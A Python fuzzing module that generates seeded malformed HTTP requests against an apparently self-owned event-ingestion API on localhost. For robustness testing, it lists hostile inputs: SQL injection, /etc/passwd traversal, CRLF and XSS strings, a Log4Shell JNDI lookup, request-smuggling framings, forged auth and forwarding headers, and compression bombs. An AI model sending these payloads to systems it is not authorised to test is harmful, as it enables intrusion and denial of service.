"""Requests that nobody means well with: a seeded generator of bytes, none of them an event."""

import gzip
import json
import random
import zlib
from collections.abc import Callable, Iterator

Generate = Callable[[random.Random], bytes]

_ADDRESSES = (
    *("/events", "/events/", "/events/batch", "/stats", "/health", "/health/ready", "/metrics"),
    *("/schema", "/docs", "/admin/", "/admin/login/", "/static/x.css", "/event-types", "/"),
)
_METHODS = (
    "GET",
    "PUT",
    "PATCH",
    "DELETE",
    "TRACE",
    "CONNECT",
    "PROPFIND",
    "get",
    "G\x00T",
    "X" * 40,
)
_INJECTIONS = (
    "' OR '1'='1",
    "\"} ; DELETE FROM events WHERE event_id='x",
    "x' REMOVE attempts WHERE event_id='",
    "attribute_exists(event_id)",
    ":shard OR open_key = :shard",
    "#0#default",
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "%00",
    "%ff%fe",
    "%0d%0aSet-Cookie:%20a=b",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil/a}",
    "{{7*7}}",
    "0" * 5_000,
    "😀" * 50,
    "00000000-0000-0000-0000-00000000000g",
    "01A209FE-C1A4-7041-8805-EA81CDAD138F",
)
_VALUES = (None, True, 0, -1, 1e308, 2**70, "", "x", [], {}, [[]], {"a": None}, "\x00", "é" * 300)
_BAD_EVENTS = (
    b"",
    b"null",
    b"[]",
    b'"order.created"',
    b"{",
    b'{"event_type": "a", "payload": {}',
    b'{"event_type": "a", "payload": {},}',
    b'{"event_type": "a", "event_type": "b", "payload": {}}',
    b'{"event_type": "a", "payload": {"n": NaN}}',
    b'{"event_type": "a", "payload": {"s": "\\ud800"}}',
    b'\xef\xbb\xbf{"event_type": "a", "payload": {}}',
    b'{"event_type": "a", "payload": {"s": "\xff"}}',
    b'{"event_type": "a", "payload": ' + b'{"a":' * 100 + b"1" + b"}" * 101,
    b"[" * 50_000,
    b'{"event_type": "a", "payload": {"n": 1' + b"0" * 5_000 + b"e}}",
)
# A few kilobytes of each become megabytes, in which each entry is wrong at its very end.
_LATE_FAULTS = tuple(
    gzip.compress(b'{"events":[' + b",".join([b'{"x":"' + b"y" * 5_200 + end + b"}"] * 990) + b"]}")
    for end in (b'","x":1', b'\\ud800"', b'","z":NaN')
)
_ENCODED = (
    ("gzip", b"no gzip at all"),
    ("gzip", gzip.compress(b"{}")[:-6]),
    ("gzip", gzip.compress(b" " * 20_000_000)),
    ("gzip", gzip.compress(b'{"payload": {}}') + b"behind it"),
    ("deflate", zlib.compress(b"{}")),
    ("br", b"\x0b\x00\x80{}\x03"),
    ("gzip, gzip", gzip.compress(gzip.compress(b"{}"))),
)


def requests(seed: int, count: int) -> Iterator[bytes]:
    """Make that many requests, the same ones for the same seed."""
    chance = random.Random(seed)  # noqa: S311  # no secret
    kinds = [noise, scrambled, bad_event, bad_field, bad_header, bad_address, bad_method]
    kinds += [smuggled, oversized, forged_caller, forged_cursor, bad_encoding, bad_batch]
    # A tenth as often, since each costs as much as a hundred of the others.
    kinds = [*kinds * 10, late_faults]
    for _ in range(count):
        yield chance.choice(kinds)(chance)


def noise(chance: random.Random) -> bytes:
    return chance.randbytes(chance.randint(1, 400)) + b"\r\n\r\n"


def scrambled(chance: random.Random) -> bytes:
    """Change some bytes of a request that is refused anyway."""
    data = bytearray(_post(b'{"payload": {}}', "Accept: */*", "X-Request-ID: abc"))
    for _ in range(chance.randint(1, 8)):
        data[chance.randrange(len(data))] = chance.randrange(256)
    return bytes(data)


def bad_event(chance: random.Random) -> bytes:
    return _post(chance.choice(_BAD_EVENTS))


def bad_field(chance: random.Random) -> bytes:
    event = {"event_type": "order.created", "payload": {}}
    name = chance.choice(
        ["event_type", "payload", "source", "subject", "process_at", "tenant", "status"]
    )
    good = {"event_type": str, "payload": dict, "source": str, "subject": str}
    value = chance.choice([*_VALUES, *_INJECTIONS])
    if name in good and (isinstance(value, good[name]) or value is None):
        value = [value]
    event[name] = value if name != "process_at" else [value]
    return _post(json.dumps(event).encode())


def bad_header(chance: random.Random) -> bytes:
    header = chance.choice(
        [
            "Idempotency-Key: " + "k" * 256,
            "Idempotency-Key: \x01",
            "X-Request-ID: a\r\n X-Folded: b",
            "X-Request-ID: " + chance.choice(_INJECTIONS),
            "X\x00Y: 1",
            "No colon here",
            ": no name",
            "Content_Length: 5",
            "Content-Type: text/plain",
            "Content-Type: application/json; charset=utf-16",
            "Expect: 200-maybe",
            "Cookie: " + "a=b; " * 1_000,
            "Long: " + "x" * chance.choice([5_000, 9_000, 70_000]),
            "\r\n".join(f"X-{i}: {i}" for i in range(chance.choice([50, 101, 500]))),
            "Range: bytes=0-18446744073709551615",
            "Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABk",
        ]
    )
    return _post(b'{"event_type": 1}', header)


def bad_address(chance: random.Random) -> bytes:
    text = chance.choice(_INJECTIONS)
    address = chance.choice(
        [
            "/events/{}",
            "/{}",
            "/admin/{}",
            "/static/{}",
            "/events?status={}",
            "//{}",
            "/event-types/{}",
        ]
    ).format(text)
    address = chance.choice([address, address.replace(" ", "%20"), f"http://evil.example{address}"])
    return _get(address)


def bad_method(chance: random.Random) -> bytes:
    method = chance.choice(_METHODS)
    return _request(method, chance.choice(_ADDRESSES), b"", "Content-Length: 0")


def smuggled(chance: random.Random) -> bytes:
    """Let two readers see two different ends of the first request."""
    framing = chance.choice(
        [
            "Content-Length: 5\r\nTransfer-Encoding: chunked",
            "Content-Length: 5\r\nContent-Length: 6",
            "Content-Length: 5, 5",
            "Content-Length: +5",
            "Content-Length: 0x5",
            "Content-Length: -1",
            "Content-Length: 5\t",
            "Transfer-Encoding: xchunked",
            "Transfer-Encoding: chunked, identity",
            "Transfer-Encoding: identity, chunked, chunked",
            "Transfer-Encoding : chunked",
            "Transfer-Encoding: \x0bchunked",
            "Transfer-Encoding: gzip, chunked",
        ]
    )
    hidden = b"GET /admin/ HTTP/1.1\r\nHost: x\r\n\r\n"
    chunks = chance.choice(
        [b"0\r\n\r\n", b"5;" + b"a" * 9_000 + b"\r\n", b"-1\r\n", b"FFFFFFFFFFFFFFFFF\r\n"]
    )
    return _request("POST", "/events", chunks + hidden, framing, "Content-Type: application/json")


def oversized(chance: random.Random) -> bytes:
    if chance.random() < 0.5:
        length = chance.choice([262_145, 10**9, 10**30])
        return _request(
            "POST", "/events", b"{}", f"Content-Length: {length}", "Content-Type: application/json"
        )
    return _get("/events/" + "x" * chance.choice([4_000, 9_000, 100_000]))


def forged_caller(chance: random.Random) -> bytes:
    header = chance.choice(
        [
            "Authorization: Bearer "
            + chance.choice(["", "x", "evp_" + "a" * 60, "é", "x" * 5_000]),
            "Authorization: Basic YWRtaW46YWRtaW4=",
            "X-Forwarded-For: 127.0.0.1",
            "X-Forwarded-Host: evil.example",
            "X-Forwarded-Proto: https\r\nX-Forwarded-Proto: http",
            "Script-Name: /admin",
            "SCRIPT_NAME: /admin",
            "PATH_INFO: /metrics",
            "Cookie: sessionid=" + "a" * 32,
            "X-HTTP-Method-Override: DELETE",
        ]
    )
    return _get(chance.choice(_ADDRESSES), header)


def forged_cursor(chance: random.Random) -> bytes:
    cursor = chance.choice(
        [*_INJECTIONS[:4], "eyJhIjoxfQ:1abc:xyz", "A" * 8_000, chance.randbytes(40).hex()]
    ).replace(" ", "+")
    extra = chance.choice(
        ["", "&limit=-1", "&limit=9e9", "&limit=", "&received_after=never", "&x=1"]
    )
    return _get(f"/events?cursor={cursor}{extra}")


def bad_encoding(chance: random.Random) -> bytes:
    name, body = chance.choice(_ENCODED)
    return _post(body, f"Content-Encoding: {name}")


def bad_batch(chance: random.Random) -> bytes:
    value = chance.choice([*_VALUES, [None], [{}] * 2_000, [{"event_type": "a"}], [[{}]]])
    body = json.dumps(chance.choice([{"events": value}, {"event": value}, value])).encode()
    media_type = chance.choice(
        ["json", "x-ndjson", "cloudevents+json", "cloudevents-batch+json", "xml"]
    )
    address = chance.choice(["/events/batch", "/events"])
    return _request(
        "POST",
        address,
        body,
        f"Content-Type: application/{media_type}",
        f"Content-Length: {len(body)}",
    )


def late_faults(chance: random.Random) -> bytes:
    body = chance.choice(_LATE_FAULTS)
    headers = ["Content-Type: application/json", f"Content-Length: {len(body)}"]
    return _request("POST", "/events/batch", body, "Content-Encoding: gzip", *headers)


def _post(body: bytes, *headers: str) -> bytes:
    length = f"Content-Length: {len(body)}"
    return _request("POST", "/events", body, *headers, "Content-Type: application/json", length)


def _get(address: str, *headers: str) -> bytes:
    return _request("GET", address, b"", *headers)


def _request(method: str, address: str, body: bytes, *headers: str) -> bytes:
    lines = [f"{method} {address} HTTP/1.1", "Host: localhost", *headers, "", ""]
    return "\r\n".join(lines).encode() + body
